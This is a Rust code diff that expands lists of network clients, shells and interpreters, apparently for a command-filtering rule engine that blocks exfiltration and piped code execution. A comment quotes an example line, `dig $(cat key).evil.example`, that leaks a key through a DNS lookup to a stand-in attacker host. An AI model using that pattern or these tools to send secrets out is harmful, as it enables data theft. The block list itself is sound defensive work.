@@ -168,13 +168,46 @@ pub const DISK_PROGRAMS: &[&str] = &[
 /// Besides SPEC's list, clients whose requests carry what they are given out:
 /// DNS lookups (`dig $(cat key).evil.example`), ping, HTTP and FTP clients.
 pub const NETWORK_PROGRAMS: &[&str] = &[
-    "curl", "wget", "nc", "ncat", "netcat", "socat", "ssh", "scp", "sftp", "ftp", "telnet",
-    "rsync", "dig", "nslookup", "host", "drill", "ping", "ping6", "http", "https", "xh", "aria2c",
-    "lftp", "tftp",
+    "curl",
+    "wget",
+    "nc",
+    "ncat",
+    "netcat",
+    "socat",
+    "ssh",
+    "scp",
+    "sftp",
+    "ftp",
+    "telnet",
+    "rsync",
+    "dig",
+    "nslookup",
+    "host",
+    "drill",
+    "ping",
+    "ping6",
+    "http",
+    "https",
+    "xh",
+    "aria2c",
+    "lftp",
+    "tftp",
+    // Debian's and others' names for the netcats `nc` links to, and later clients.
+    "nc.openbsd",
+    "nc.traditional",
+    "netcat-openbsd",
+    "netcat-traditional",
+    "pnc",
+    "wget2",
+    "websocat",
+    "curlie",
 ];
 /// Shells whose `-c` string is parsed again and which read a program from stdin.
 pub const SHELLS: &[&str] = &[
     "sh", "bash", "zsh", "dash", "ksh", "mksh", "fish", "ash", "yash", "tcsh", "csh",
+    // Restricted bash (a link to bash), the pdksh family, busybox's hush, Oils and
+    // brush: each takes `-c STRING` and reads a program from a pipe as these do.
+    "rbash", "posh", "oksh", "loksh", "pdksh", "hush", "osh", "ysh", "brush",
 ];
 /// Script interpreters that read their program from stdin when given none.
 pub const INTERPRETERS: &[&str] = &[
@@ -194,6 +227,13 @@ pub const INTERPRETERS: &[&str] = &[
     "bun",
     "osascript",
     "pwsh",
+    "powershell",
+    // Shells of languages of their own: their `-c` string is not POSIX shell, and
+    // each reads a program from a pipe.
+    "nu",
+    "elvish",
+    "xonsh",
+    "ion",
 ];
 
 pub static BUILTIN_RULES: &[BuiltinRule] = &[
